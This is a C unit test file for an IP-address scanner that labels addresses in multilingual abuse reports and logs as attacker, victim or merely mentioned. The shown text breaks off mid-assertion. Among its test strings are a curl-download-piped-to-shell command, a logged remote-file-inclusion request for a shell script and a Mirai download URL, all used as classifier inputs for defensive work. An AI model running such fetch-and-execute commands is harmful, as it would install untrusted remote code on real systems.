/* test_analysis_ipscan.c: finding addresses in prose and scoring them by
 * their context; defanged forms, URLs, ranges and caps. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "analysis/ipscan.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* Scans text and returns the score of addr, or INT32_MIN when absent. */
static int score_of(const char *text, const char *addr)
{
	struct ip_cands c;
	char t[IP_TEXT_MAX];
	int score = INT32_MIN;

	ipscan_init(&c);
	ipscan_text(&c, text, strlen(text), IPSCAN_TRUST_BODY);
	for (size_t i = 0; i < c.n; i++) {
		ip_format(&c.v[i].addr, t);
		if (strcmp(t, addr) == 0)
			score = c.v[i].score;
	}
	ipscan_free(&c);
	return score;
}

/* The hints the scan gave addr (1 << enum ipscan_hint), 0 when absent. */
static unsigned hints_of(const char *text, const char *addr)
{
	struct ip_cands c;
	char t[IP_TEXT_MAX];
	unsigned hints = 0;

	ipscan_init(&c);
	ipscan_text(&c, text, strlen(text), IPSCAN_TRUST_BODY);
	for (size_t i = 0; i < c.n; i++) {
		ip_format(&c.v[i].addr, t);
		if (strcmp(t, addr) == 0)
			hints = c.v[i].hints;
	}
	ipscan_free(&c);
	return hints;
}

#define HINT(h) (1u << (h))

/* Each of texts[0..n) gives addr the hint h. */
static void each_hinted(const char *const *texts, size_t n, const char *addr,
			enum ipscan_hint h)
{
	for (size_t i = 0; i < n; i++) {
		print_message("%s\n", texts[i]);
		assert_true(hints_of(texts[i], addr) & HINT(h));
	}
}

#define COUNT_OF(a) (sizeof(a) / sizeof((a)[0]))

static size_t count_in(const char *text)
{
	struct ip_cands c;
	size_t n;

	ipscan_init(&c);
	ipscan_text(&c, text, strlen(text), IPSCAN_TRUST_BODY);
	n = c.n;
	ipscan_free(&c);
	return n;
}

/* tcpdump writes the port after a dot: both ends of a flow are found,
 * the one after "port > " as the side the traffic went to; a dotted run
 * of six digits or an object identifier stays no address. */
static void test_ipscan_tcpdump_flow_ends(void **state)
{
	const char *v4 = "14:42:10.118221 IP 192.0.2.7.44120 > "
			 "198.51.100.19.27015: Flags [S], seq 3819, win 64240";
	const char *v6 = "11:52:08.114201 IP6 2001:db8:5a::25.51344 > "
			 "2001:db8:77::1.22: Flags [S], seq 1993844100";

	(void)state;
	assert_int_equal(count_in(v4), 2);
	assert_true(hints_of(v4, "192.0.2.7") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(v4, "198.51.100.19") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(v6, "2001:db8:77::1") & HINT(IPSCAN_HINT_VICTIM));
	assert_int_not_equal(hints_of(v6, "2001:db8:5a::25"), 0);
	assert_int_equal(count_in("x 192.0.2.7.612345 > y"), 0);
	assert_int_equal(count_in("OID 1.3.6.1.4.1 > 3"), 0);
}

/* A firewall's "outside:ADDR/port" (Cisco ASA) and a number after the
 * slash too big for a prefix name a host and its port; a network's
 * prefix still names no host. */
static void test_ipscan_port_after_slash(void **state)
{
	const char *asa = "%ASA-4-106023: Deny tcp src outside:192.0.2.7/51515 "
			  "dst inside:198.51.100.9/22 by access-group";

	(void)state;
	assert_true(hints_of(asa, "192.0.2.7") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(asa, "198.51.100.9") & HINT(IPSCAN_HINT_VICTIM));
	assert_int_equal(count_in("Blocked 192.0.2.7/8080 twice."), 1);
	/* Juniper's flow: "ADDR/port->ADDR/port" */
	assert_true(hints_of("session denied 192.0.2.7/22->198.51.100.9/22 "
			     "junos-ssh",
			     "198.51.100.9") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_int_equal(
	    count_in("session denied 192.0.2.7/22->198.51.100.9/22"), 2);
	assert_int_equal(count_in("Our network 198.51.100.0/24."), 0);
}

/* "URL | sh" pipes a download into a shell: its host is only
 * mentioned; in a table's row, a later "| sh" is a cell (a tag) after a
 * border. Turkish names the attackers above their list ("Saldırı yapan
 * IP'ler:") and the writer's server beside "sitemize". */
static void test_ipscan_pipe_cell_and_turkish_sides(void **state)
{
	const char *row = "URL                    | Status | Tags\n"
			  "-----------------------+--------+------\n"
			  "hxxp://192.0.2.7/i.sh  | online | sh,Mirai\n";
	const char *tr = "Sitemize (shop.example, sunucu IP 198.51.100.9) "
			 "saldırı var.\nSaldırı yapan IP'ler:\n192.0.2.7\n"
			 "192.0.2.8\n";

	(void)state;
	assert_int_equal(hints_of(row, "192.0.2.7"),
			 HINT(IPSCAN_HINT_OFFENDER));
	assert_true(
	    hints_of("curl -fsSL http://192.0.2.9/d.sh | sh", "192.0.2.9") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of(tr, "198.51.100.9") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(tr, "192.0.2.8") & HINT(IPSCAN_HINT_OFFENDER));
}

/* "Our server was attacked by ADDR": the address is the agent, and the
 * words before the participle are of the server; an adverb may stand
 * before "by", a word for a host after it; so in the languages whose
 * agent's preposition the role files name. "Evidence collected by
 * monitoring node ADDR" names no agent of a deed. */
static void test_ipscan_passive_agent_after_our_server(void **state)
{
	static const char *const agents[] = {
	    "Our server was attacked by 192.0.2.7 yesterday.",
	    "Our server was attacked yesterday by 192.0.2.7.",
	    "Our web server was hammered overnight by 192.0.2.7.",
	    "Our server was attacked by the host 192.0.2.7.",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(agents); i++) {
		print_message("%s\n", agents[i]);
		assert_true(score_of(agents[i], "192.0.2.7") >= IPSCAN_SELECT);
		assert_int_equal(hints_of(agents[i], "192.0.2.7"),
				 HINT(IPSCAN_HINT_OFFENDER));
	}
	/* What the writer's tools did with the address, and what it did
	 * after it. */
	static const char *const doers[] = {
	    "Our IDS flagged 192.0.2.7 for SQL injection attempts.",
	    "Our honeypot caught 192.0.2.7 trying default passwords.",
	    "Since Monday 192.0.2.7 has sent over 10,000 requests to our "
	    "login page.",
	};
	each_hinted(doers, COUNT_OF(doers), "192.0.2.7", IPSCAN_HINT_OFFENDER);
	/* The agent's preposition in other languages, the one that suffered
	 * named before it; a list after it is the agents'. */
	static const char *const preps[] = {
	    "Unser Server wird seit gestern von 192.0.2.7 angegriffen.",
	    "Notre serveur est attaqué depuis hier par 192.0.2.7.",
	    "Nuestro servidor está siendo atacado por 192.0.2.7.",
	    "Il nostro server è stato attaccato da 192.0.2.7.",
	    "O nosso servidor foi atacado pelo IP 192.0.2.7.",
	    "Onze server wordt aangevallen door 192.0.2.7.",
	    "Nasz serwer jest atakowany przez 192.0.2.7.",
	    "Vår server angrips av 192.0.2.7.",
	    "Angriffe auf unseren Shop von 198.51.100.4 und 192.0.2.7",
	    /* a source's postposition after the address, a CJK or a
	     * Cyrillic preposition before it */
	    "弊社のサーバーが 192.0.2.7 から攻撃を受けています。",
	    "저희 서버가 192.0.2.7 에서 공격을 받고 있습니다.",
	    "我们的服务器正在受到来自 192.0.2.7 的攻击。",
	    "Наш сервер атакуют с адреса 192.0.2.7.",
	    /* a preposition of several words, an elided article */
	    "Ontem o nosso site foi invadido a partir do IP 192.0.2.7.",
	    "Notre serveur est attaqué depuis l'adresse 192.0.2.7.",
	    "Nuestro servidor está siendo atacado desde la IP 192.0.2.7.",
	};
	each_hinted(preps, COUNT_OF(preps), "192.0.2.7", IPSCAN_HINT_OFFENDER);
	assert_true(
	    hints_of("Unser Server 192.0.2.7 wird angegriffen.", "192.0.2.7") &
	    HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of("Evidence collected by monitoring node "
			     "192.0.2.7.",
			     "192.0.2.7") < IPSCAN_SELECT);
}

/* The recipient's name after "hosted with", "Kunde bei": in any case,
 * its letters parted by a blank or a dash; another name, a longer word,
 * or a name too short to tell say nothing. */
static void test_ipscan_names_host(void **state)
{
	const char *t = "Our shop has been hosted with MapleWave since 2019.";

	(void)state;
	assert_true(ipscan_names_host(t, strlen(t), "maplewave"));
	t = "Wir sind Kunde bei Maple-Wave und werden angegriffen.";
	assert_true(ipscan_names_host(t, strlen(t), "maplewave"));
	t = "Our shop is hosted with Maple Wave.";
	assert_true(ipscan_names_host(t, strlen(t), "maplewave"));
	t = "Our shop is hosted with MapleWaves Ltd.";
	assert_false(ipscan_names_host(t, strlen(t), "maplewave"));
	t = "Our shop is hosted with Larchfield.";
	assert_false(ipscan_names_host(t, strlen(t), "maplewave"));
	t = "Our shop is hosted with Net.";
	assert_false(ipscan_names_host(t, strlen(t), "net"));
	assert_false(ipscan_names_host(t, strlen(t), NULL));
}

/* Romanian's "cel" is "the" ("cel mai mult de la ADDR": mostly from
 * ADDR); Polish names a target with "cel:" or "cel ataku". After "we are
 * your customers", the address is the writer's own, no customer's that
 * offends. */
static void test_ipscan_romanian_cel_and_customer_of_yours(void **state)
{
	(void)state;
	assert_int_equal(hints_of("Suntem clientii vostri cu serverul dedicat "
				  "192.0.2.7. Ieri a mers bine.",
				  "192.0.2.7"),
			 HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("serverul e lovit de un SYN flood, cel mai mult "
			     "de la 192.0.2.7 si de la altele.",
			     "192.0.2.7") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(
	    hints_of("Atak z 198.51.100.4, cel: 192.0.2.7.", "192.0.2.7") &
	    HINT(IPSCAN_HINT_VICTIM));
}

static void test_ipscan_attacker_outscores_victim(void **state)
{
	const char *t =
	    "Attack from 192.0.2.7 against our server 198.51.100.1.";

	(void)state;
	assert_true(score_of(t, "192.0.2.7") >= IPSCAN_SELECT);
	assert_true(score_of(t, "198.51.100.1") < 0);
}

static void test_ipscan_passive_agent_is_the_offender(void **state)
{
	const char *t = "Our VPS 198.51.100.20 was flooded by 203.0.113.30.";

	(void)state;
	assert_true(score_of(t, "203.0.113.30") >= IPSCAN_SELECT);
	assert_true(hints_of(t, "203.0.113.30") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(t, "198.51.100.20") & HINT(IPSCAN_HINT_VICTIM));
}

/* "reported by", "detected by" name who found it, not who did it. */
static void test_ipscan_finding_verbs_make_no_passive(void **state)
{
	const char *t = "192.0.2.40 was reported by a sensor";

	(void)state;
	assert_false(hints_of(t, "192.0.2.40") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of("detected by 192.0.2.41", "192.0.2.41") <
		    IPSCAN_SELECT);
}

static void test_ipscan_target_words_hint_victim(void **state)
{
	(void)state;
	assert_true(hints_of("Ziel: 198.51.100.3", "198.51.100.3") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("dst=198.51.100.4", "198.51.100.4") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("gateway 198.51.100.5", "198.51.100.5") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("src=192.0.2.6", "192.0.2.6") &
		    HINT(IPSCAN_HINT_OFFENDER));
	/* A list that opens its line takes the label on the line above,
	 * each of its addresses alike. */
	assert_true(hints_of("For your reference, the destination servers "
			     "are\n198.51.100.10 and 198.51.100.11 (port 443).",
			     "198.51.100.11") &
		    HINT(IPSCAN_HINT_VICTIM));
	/* The writer's own VPS that is the target (French) is attacked, not
	 * a tool of theirs. */
	assert_true(hints_of("Depuis ce matin, mon VPS 198.51.100.15 est la "
			     "cible d'une attaque par déni de service.",
			     "198.51.100.15") &
		    HINT(IPSCAN_HINT_VICTIM));
	/* The address the writer says they use at home (Hungarian). */
	assert_true(hints_of("Az Önök ügyfele vagyok, otthon a 198.51.100.21 "
			     "fix IP-címet használom.",
			     "198.51.100.21") &
		    HINT(IPSCAN_HINT_VICTIM));
	/* "dest" is a word: Portuguese "destes" (of these) is none. */
	assert_true(hints_of("dest: 198.51.100.4", "198.51.100.4") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_false(
	    hints_of("Os ataques vêm destes IPs: 192.0.2.241", "192.0.2.241") &
	    HINT(IPSCAN_HINT_VICTIM));
	/* Under attack, before the address. */
	assert_true(hints_of("Site do cliente sob ataque - servidor dedicado "
			     "198.51.100.70",
			     "198.51.100.70") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("Customer site under attack - dedicated server "
			     "198.51.100.70",
			     "198.51.100.70") &
		    HINT(IPSCAN_HINT_VICTIM));
	/* The bracket after "I am your customer" holds the writer's own. */
	assert_true(hints_of("Sou cliente de vocês (servidor dedicado "
			     "SRV-BR-4471, IP 198.51.100.70) e desde ontem o "
			     "site está lento.",
			     "198.51.100.70") &
		    HINT(IPSCAN_HINT_VICTIM));
	/* A part of the writer's own that is not hit. */
	assert_true(hints_of("Our load balancer (198.51.100.8) isn't "
			     "affected, only the VM.",
			     "198.51.100.8") &
		    HINT(IPSCAN_HINT_MENTIONED));
	/* What a digest compares its rows with is less of an offender. */
	assert_true(score_of("For comparison, the most active source overall "
			     "this week was 198.51.100.7",
			     "198.51.100.7") <
		    score_of("The most active source overall this week was "
			     "198.51.100.7",
			     "198.51.100.7"));
	/* Exim's log of a failed login names its source. */
	assert_true(score_of("mail exim[22811]: dovecot_login authenticator "
			     "failed for (User) [192.0.2.4]:61234: 535",
			     "192.0.2.4") >
		    score_of("mail exim[22811]: dovecot_login authenticator "
			     "(User) [192.0.2.4]:61234: 535",
			     "192.0.2.4"));
}

/* The writer's own server or connection is the attacked side (English,
 * Hindi, Vietnamese, Norwegian, Finnish, Italian, Croatian, a site's
 * alert); and a writer who says they are the recipient's customer. */
static void test_ipscan_writers_own_and_customers_of_yours(void **state)
{
	static const char *const own[] = {
	    "Our production VM 198.51.100.7 has been receiving SSH login "
	    "attempts.",
	    "हमारे VPS 198.51.100.7 पर लगातार SSH हमला",
	    "Địa chỉ bị tấn công: 198.51.100.7 (cổng 443/TCP)",
	    "Min eksterne IP-adresse er 198.51.100.7.",
	    "UDP-liikennettä mun julkiseen osoitteeseen 198.51.100.7 tosi "
	    "monesta osoitteesta.",
	    "Il mio VPS con indirizzo 198.51.100.7 sta subendo un attacco.",
	    "Naš web poslužitelj na adresi 198.51.100.7 je pod DDoS napadom.",
	    "Site IP: 198.51.100.7 (Wordfence 7.11.1)",
	    "VPS kami dengan IP 198.51.100.7 sedang diserang sejak pagi.",
	    "Meidän palvelin 198.51.100.7 kaatui eilen illalla.",
	    "ye dono IP humare server 198.51.100.7 ko down kar rahe hai",
	    "Molimo vas da ograničite saobraćaj prema 198.51.100.7.",
	    "FastNetMon Guard: IP 198.51.100.7 blocked because incoming "
	    "attack with power 412331 pps",
	};
	static const char *const customers[] = {
	    "हम आपके ग्राहक हैं (ग्राहक आईडी: NA-55812)।",
	    "Jeg er kunde hos dere (fiber 500/500, kundenr. 33).",
	    "mulla on teidän kuituliittymä (asiakasnumero 881).",
	    "sono cliente Adriatica (VPS, contratto 77).",
	    "ja sam vaš korisnik (ugovor br. 2023-18842)",
	    "Det er ikke jeres kunde, der har gjort noget galt - de er offer "
	    "for et angreb.",
	    "It was not your customer who did anything; they are the victim "
	    "here.",
	    "We saw SSH logins from 192.0.2.141, one of our customers, "
	    "against your server; it is disconnected now.",
	    "Saya pelanggan Awan Net (ID akaun MC-2088).",
	    "de server die bij jullie in colocatie staat (198.51.100.7, "
	    "contractnummer RB-1)",
	    /* a phrase a line break cuts */
	    "a shop on a VPS they rent from\nyou, host vps-88",
	};

	(void)state;
	each_hinted(own, COUNT_OF(own), "198.51.100.7", IPSCAN_HINT_VICTIM);
	for (size_t i = 0; i < sizeof customers / sizeof customers[0]; i++) {
		print_message("%s\n", customers[i]);
		assert_true(
		    ipscan_victim_is_yours(customers[i], strlen(customers[i])));
	}
}

/* An arrow from an address is a flow: its right end was hit. An arrow
 * from a host name (plain or defanged) says what the name resolves to. */
static void test_ipscan_arrow_after_host_name_resolves(void **state)
{
	(void)state;
	assert_true(hints_of("192.0.2.9 -> 198.51.100.3", "198.51.100.3") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("Domain: shop-outlet[.]test  ->  198.51.100.36",
			     "198.51.100.36") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(score_of("mirror.shop.example => 198.51.100.37",
			     "198.51.100.37") >= IPSCAN_SELECT);
	/* A version number is no host name. */
	assert_true(hints_of("v1.2 -> 198.51.100.5", "198.51.100.5") &
		    HINT(IPSCAN_HINT_VICTIM));
}

/* A table's column of addresses that names no side ("ip", "IP address")
 * lists what the table is about; "ip" as a prefix still takes the side
 * that follows it. */
static void test_ipscan_plain_ip_column_lists_the_subjects(void **state)
{
	const char *csv = "\"timestamp\",\"ip\",\"port\"\n"
			  "\"2026-03-12 04:11\",\"203.0.113.21\",6379\n"
			  "\"2026-03-12 04:12\",\"2001:db8:77:3::a\",6379\n";
	const char *aligned = "IP address       Port   Seen\n"
			      "198.51.100.14    11211  2026-03-01\n";
	const char *sided = "ip_dst,ip_src\n192.0.2.8,203.0.113.9\n";
	/* A "Host" column beside the URL holds the rows' addresses. */
	const char *hosts =
	    "Date | URL | Host | Threat\n"
	    "2026-03-09 | http://cdn.example/a.js | 192.0.2.12 | "
	    "malware\n";

	(void)state;
	assert_true(score_of(csv, "203.0.113.21") >= IPSCAN_SELECT);
	assert_true(score_of(csv, "2001:db8:77:3::a") >= IPSCAN_SELECT);
	assert_true(score_of(aligned, "198.51.100.14") >= IPSCAN_SELECT);
	assert_true(hints_of(sided, "192.0.2.8") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(hosts, "192.0.2.12") >= IPSCAN_SELECT);
	assert_true(score_of("203.0.113.21 port 6379", "203.0.113.21") <
		    IPSCAN_SELECT);
}

/* An address in a link's query is a parameter of the link (a lookup, an
 * example), and the words before the link are not about it; the host a
 * link leads to still counts. */
static void test_ipscan_url_query_value_is_no_host(void **state)
{
	const char *t = "Look addresses up, e.g. "
			"https://watch.example/api/lookup?ip=192.0.2.1";

	(void)state;
	assert_int_equal(score_of(t, "192.0.2.1"), IPSCAN_TRUST_BODY);
	assert_true(score_of("The source IP: 192.0.2.1", "192.0.2.1") >
		    IPSCAN_TRUST_BODY);
	assert_true(score_of("Phishing hosted at http://192.0.2.7/login?u=1",
			     "192.0.2.7") >= IPSCAN_SELECT);
	/* A logged request's payload host (remote file inclusion). */
	assert_int_equal(score_of("192.0.2.9 - - \"GET /index.php?page="
				  "http://198.51.100.250/shell.txt? "
				  "HTTP/1.1\" 403",
				  "198.51.100.250"),
			 IPSCAN_TRUST_BODY);
}

/* The real site a fake one imitates is the attacked side, and an address
 * said to be unaffected has no part in the report. */
static void test_ipscan_legitimate_site_and_unaffected_address(void **state)
{
	const char *en =
	    "The legitimate bank website is hosted at 203.0.113.80 "
	    "and is not affected.";
	const char *de = "Die echte Website der Bank liegt auf 192.0.2.160.";
	const char *it = "Il server 198.51.100.9 non è coinvolto.";

	(void)state;
	assert_true(score_of(en, "203.0.113.80") < IPSCAN_SELECT);
	assert_true(hints_of(en, "203.0.113.80") & HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("The legitimate site is hosted at 203.0.113.80.",
			     "203.0.113.80") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(de, "192.0.2.160") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(it, "198.51.100.9") & HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of("The phishing site is hosted at 203.0.113.81.",
			     "203.0.113.81") >= IPSCAN_SELECT);
	/* The brand's own site, and the writer's own server, in Japanese,
	 * Indonesian and Korean. */
	assert_true(hints_of("弊社の正規オンラインストアは (IPアドレス "
			     "203.0.113.82)のみです。",
			     "203.0.113.82") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("- Situs resmi kami : (IP 203.0.113.83)", "203.0.113.83") &
	    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("참고: 당사 게임 서버 주소 203.0.113.84", "203.0.113.84") &
	    HINT(IPSCAN_HINT_VICTIM));
}

/* The words before a list ("the servers A, B and C") are about each of
 * its addresses, in any language's joining words; a word other than a
 * joiner between two addresses ends the list. */
static void test_ipscan_list_shares_the_words_before_it(void **state)
{
	const char *vic = "The targeted application servers are 192.0.2.60 "
			  "and 192.0.2.61 (behind our WAF).";
	const char *off = "Attacking hosts: 203.0.113.5, 203.0.113.6, and "
			  "203.0.113.7";
	const char *de = "Angegriffen wurden unsere Server 192.0.2.8 und "
			 "192.0.2.9.";
	const char *zh = "攻击源：203.0.113.15、203.0.113.16";
	const char *path = "Attacks from 203.0.113.9 against 192.0.2.1";

	(void)state;
	assert_true(hints_of(vic, "192.0.2.61") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(vic, "192.0.2.61") < 0);
	assert_true(hints_of(off, "203.0.113.7") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(score_of(off, "203.0.113.6") >= IPSCAN_SELECT);
	assert_true(hints_of(de, "192.0.2.9") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(zh, "203.0.113.16") >= IPSCAN_SELECT);
	assert_true(hints_of(path, "192.0.2.1") & HINT(IPSCAN_HINT_VICTIM));
}

/* The reporter's own machines, said so in words ("operated by us",
 * Swedish "drivs av oss"), are named only; Swedish role words. */
static void test_ipscan_reporters_own_machine_and_swedish(void **state)
{
	(void)state;
	assert_true(hints_of("Sinkhole (operated by us): 198.51.100.2",
			     "198.51.100.2") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Sinkhole-adress (drivs av oss): 198.51.100.3",
			     "198.51.100.3") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Attacker från 203.0.113.4 mot vår server "
			     "192.0.2.4",
			     "203.0.113.4") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of("Attacker från 203.0.113.4 mot vår server "
			     "192.0.2.4",
			     "192.0.2.4") &
		    HINT(IPSCAN_HINT_VICTIM));
}

/* However many words call an address the victim, it is still named
 * (as the victim): only a dotted number that is no address drops out. */
static void test_ipscan_strongest_victim_is_still_named(void **state)
{
	const char *t = "The attack went against our customer's web server "
			"(target 203.0.113.250):";

	(void)state;
	assert_true(hints_of(t, "203.0.113.250") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(t, "203.0.113.250") < IPSCAN_DROP);
	assert_int_equal(count_in("inetnum: 192.0.2.0 - 192.0.2.255"), 0);
}

/* "in your network" after an address places it with the recipient, also
 * past a bracket and a port; "outside your network" names it only. */
static void test_ipscan_in_or_outside_your_network_after_address(void **state)
{
	const char *port = "a cluster at [2001:db8:4a1:22::15]:9200 in your "
			   "address space";

	(void)state;
	assert_true(score_of(port, "2001:db8:4a1:22::15") >= IPSCAN_SELECT);
	assert_true(score_of("a web shell on 192.0.2.44:8080 in your network",
			     "192.0.2.44") >= IPSCAN_SELECT);
	assert_true(hints_of("C2 server: 192.0.2.214 (outside your network)",
			     "192.0.2.214") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Servidor C2: 192.0.2.215 (fora da sua rede)",
			     "192.0.2.215") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(
	    hints_of("Servidor: 192.0.2.216 na sua rede", "192.0.2.216") &
	    HINT(IPSCAN_HINT_OFFENDER));
}

/* The reporter's own sandbox that fetched the samples is named only. */
static void test_ipscan_reporters_sandbox_is_mentioned(void **state)
{
	(void)state;
	assert_true(hints_of("All downloads were performed from our sandbox "
			     "egress address 192.0.2.230.",
			     "192.0.2.230") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Die Downloads wurden von unserer Sandbox "
			     "192.0.2.231 durchgeführt.",
			     "192.0.2.231") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* Where the reporter checked from is its own vantage point; a date or a
 * time between the words and the address does not cut them off, a
 * ticket number does. */
static void test_ipscan_checked_from_across_a_date(void **state)
{
	(void)state;
	assert_true(hints_of("The site resolves to 198.51.100.71 (checked "
			     "from 192.0.2.205).",
			     "192.0.2.205") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Our checks were run on 13.01.2026 at 14:02 from "
			     "192.0.2.188.",
			     "192.0.2.188") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Our checks were run on 2026-01-13 from "
			     "192.0.2.189.",
			     "192.0.2.189") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of("Our checks (ticket 40-118-227) from "
			      "192.0.2.190.",
			      "192.0.2.190") &
		     HINT(IPSCAN_HINT_MENTIONED));
}

/* A public resolver is only mentioned, whatever the words; so are an
 * address a correction takes back, one delisted, and the Japanese
 * reporter's own server ("当センター調査サーバ（ADDR）"). */
static void test_ipscan_resolvers_corrections_and_delistings(void **state)
{
	(void)state;
	assert_true(score_of("Attacks from 8.8.8.8 and 2001:4860:4860::8888.",
			     "8.8.8.8") <= IPSCAN_DISOWNED);
	assert_true(hints_of("Our own resolver is 9.9.9.9.", "9.9.9.9") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of("DNS responses from 114.114.114.114 and "
			     "223.5.5.5.",
			     "114.114.114.114") <= IPSCAN_DISOWNED);
	assert_true(hints_of("The spam is coming from 192.0.2.21, not "
			     "192.0.2.12.",
			     "192.0.2.12") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of("The spam is coming from 192.0.2.21, not "
			     "192.0.2.12.",
			     "192.0.2.21") >= IPSCAN_SELECT);
	assert_true(hints_of("Delisted this week: 192.0.2.13 (removed from L1 "
			     "on 2025-03-11)",
			     "192.0.2.13") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("確認方法：当センター調査サーバ（192.0.2.93）より"
			     "アクセスしました。",
			     "192.0.2.93") &
		    (HINT(IPSCAN_HINT_MENTIONED) | HINT(IPSCAN_HINT_VICTIM)));
}

/* Named only: a host a reminder says no longer responds, another
 * network's server, an address "not at yours", a web form's record of
 * its submitter; the writer's own blog is the attacked side. Latin
 * American Spanish says the writer is the recipient's customer with
 * "ustedes". */
static void
test_ipscan_dealt_with_other_network_submitter_own_blog(void **state)
{
	(void)state;
	assert_true(hints_of("Hemos verificado que el servidor 192.0.2.200 ya "
			     "no responde; el servidor 192.0.2.201 continúa "
			     "distribuyendo el archivo.",
			     "192.0.2.200") &
		    HINT(IPSCAN_HINT_MENTIONED));
	const char *reminder = "Hemos verificado que el servidor 192.0.2.200 "
			       "ya no responde; el servidor 192.0.2.201 "
			       "continúa distribuyendo el archivo.";
	assert_true(score_of(reminder, "192.0.2.201") >
		    score_of(reminder, "192.0.2.200"));
	assert_true(hints_of("The first host 192.0.2.200 no longer responds, "
			     "thank you.",
			     "192.0.2.200") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("La fuente primaria está en un servidor de otra "
			     "red (198.51.100.31).",
			     "198.51.100.31") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(
	    hints_of("- Inhoud: loader die een tweede stage ophaalt van "
		     "198.51.100.77 (niet bij jullie)",
		     "198.51.100.77") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(
	    hints_of("Submitter IP:      198.51.100.61", "198.51.100.61") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Complaint ID: SRH-1 | Submitted from "
			     "198.51.100.205 via web form",
			     "198.51.100.205") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("A nosa web auténtica é aluguer.example e está "
			     "noutro provedor (192.0.2.171).",
			     "192.0.2.171") &
		    (HINT(IPSCAN_HINT_MENTIONED) | HINT(IPSCAN_HINT_VICTIM)));
	assert_true(
	    hints_of("(My blog itself is hosted at 203.0.113.66, in case "
		     "that matters.)",
		     "203.0.113.66") &
	    HINT(IPSCAN_HINT_VICTIM));
	const char *ustedes = "Les escribo de Distribuidora Los Andes, somos "
			      "clientes de ustedes con un servidor en "
			      "colocation.";
	assert_true(ipscan_victim_is_yours(ustedes, strlen(ustedes)));
	const char *hos_er = "Vi har en webbserver hos er i Stockholm "
			     "(kommunens e-tjänsteportal, 192.0.2.200).";
	assert_true(ipscan_victim_is_yours(hos_er, strlen(hos_er)));
	/* A subscriber by its account and the recipient's chat; a site's
	 * own "customer-support chat widget" says nothing of whose. */
	const char *acct = "I'm on the Fibre 1G plan (account ends in 4471) "
			   "and the support chat guy told me to send it here.";
	assert_true(ipscan_victim_is_yours(acct, strlen(acct)));
	const char *cliente = "Je suis cliente chez Prairie Line depuis 2023.";
	assert_true(ipscan_victim_is_yours(cliente, strlen(cliente)));
	const char *widget = "The site's customer-support chat widget loads "
			     "from 198.51.100.118.";
	assert_false(ipscan_victim_is_yours(widget, strlen(widget)));
	/* "dos direcciones de vuestra red, A y B": both are the sources,
	 * though the servers they attack are named before them. */
	const char *vuestra =
	    "Recibimos intentos contra nuestros servidores "
	    "de correo desde dos direcciones de vuestra red, "
	    "192.0.2.66 y 2001:db8:3:1b0::7, probando cuentas "
	    "de nuestros clientes.";
	assert_true(score_of(vuestra, "192.0.2.66") >= IPSCAN_SELECT);
	assert_true(score_of(vuestra, "2001:db8:3:1b0::7") >= IPSCAN_SELECT);
}

/* A log's passive without its auxiliary ("ADDR attacked by ADDR2"), the
 * writer's gateway, "not your network", and the words of Swahili,
 * Arabic, Afrikaans and Serbian for another network, the writer's own
 * site or server, and the recipient's network. */
static void test_ipscan_passive_gateway_and_five_languages(void **state)
{
	(void)state;
	const char *portsentry =
	    "2026-02-15 09:30  \"[portsentry] 192.0.2.77 attacked by "
	    "198.51.100.31 on tcp/445\"";
	assert_true(hints_of(portsentry, "192.0.2.77") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(portsentry, "198.51.100.31") >
